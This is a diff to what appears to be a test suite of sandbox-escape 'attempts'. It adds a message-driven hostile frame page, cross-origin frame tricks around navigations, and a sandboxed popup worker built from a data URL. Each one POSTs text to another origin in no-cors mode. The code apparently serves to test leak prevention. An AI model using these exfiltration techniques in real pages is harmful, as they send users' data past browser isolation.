@@ -3,6 +3,18 @@
 // oxlint-disable no-script-url, no-useless-escape, react/iframe-missing-sandbox
 import { type Attempt, variants } from './attempt.ts';
 
+/** A page that does what it is told: goes elsewhere and back, sends a text, or has a frame of its own send it. */
+export const hostileFrame = `<!doctype html><body><script>
+onmessage = ({ data: { go, back, text, to, frame } }) => {
+  if (go) return void (location.href = go);
+  if (back) return history.back();
+  if (!frame) return void fetch(to, { method: 'POST', mode: 'no-cors', body: text });
+  const inner = document.body.appendChild(document.createElement('iframe'));
+  inner.onload = () => inner.contentWindow.postMessage({ text, to }, '*');
+  inner.src = frame;
+};
+</script>`;
+
 export const realms: readonly Attempt[] = [
   {
     name: 'realm: fetch of a fresh about:blank frame',
@@ -146,6 +158,47 @@ export const realms: readonly Attempt[] = [
       const view = await tools.frame('');
       const { eval: evaluate } = view as unknown as { eval: (code: string) => unknown };
       return evaluate(`fetch(${JSON.stringify(to)}, { method: 'POST', body: ${JSON.stringify(text)} })`);
+    },
+  },
+  ...variants(['no content', 'a download', 'nothing at all', 'another page, and back'], (kind) => ({
+    name: `realm: a frame of another site, after a navigation to ${kind}`,
+    reads: 'network' as const,
+    run: async ({ text, to, elsewhere, variant }) => {
+      const foreign = new URL('/hostile-frame.html', elsewhere).href;
+      let view: Window = window;
+      if (variant === 'another page, and back') {
+        // In a window of its own: this one's scripts would end.
+        view = window.open('/hostile-frame.html') as Window;
+        await tools.pause(500);
+        view.postMessage({ go: foreign }, '*');
+        await tools.pause(500);
+        view.postMessage({ back: true }, '*');
+        await tools.pause(500);
+        view.postMessage({ text, to: elsewhere, frame: foreign }, '*');
+      } else {
+        const address = { 'no content': '/no-content', 'a download': '/download', 'nothing at all': '/never' }[variant];
+        location.href = new URL(address as string, elsewhere).href;
+        await tools.pause(300);
+        const frame = await tools.frame(foreign);
+        frame.postMessage({ text, to: elsewhere }, '*');
+      }
+      void to;
+      await tools.pause(700);
+    },
+  })),
+  {
+    name: 'realm: a sandboxed window’s worker',
+    reads: 'network',
+    run: async ({ text, elsewhere }) => {
+      const work = `onmessage = ({ data: { text, to } }) => fetch(to, { method: 'POST', mode: 'no-cors', body: text })`;
+      const script = `const view = open(); view.eval(${JSON.stringify(
+        `new Worker('data:text/javascript,' + encodeURIComponent(${JSON.stringify(work)})).postMessage(${JSON.stringify({ text, to: elsewhere })})`,
+      )})`;
+      await tools.frame('', (frame) => {
+        frame.setAttribute('sandbox', 'allow-scripts allow-popups allow-popups-to-escape-sandbox');
+        frame.srcdoc = `<script>${script.replaceAll('</', '<\\/')}<\/script>`;
+      });
+      await tools.pause(700);
     },
   },
 ];
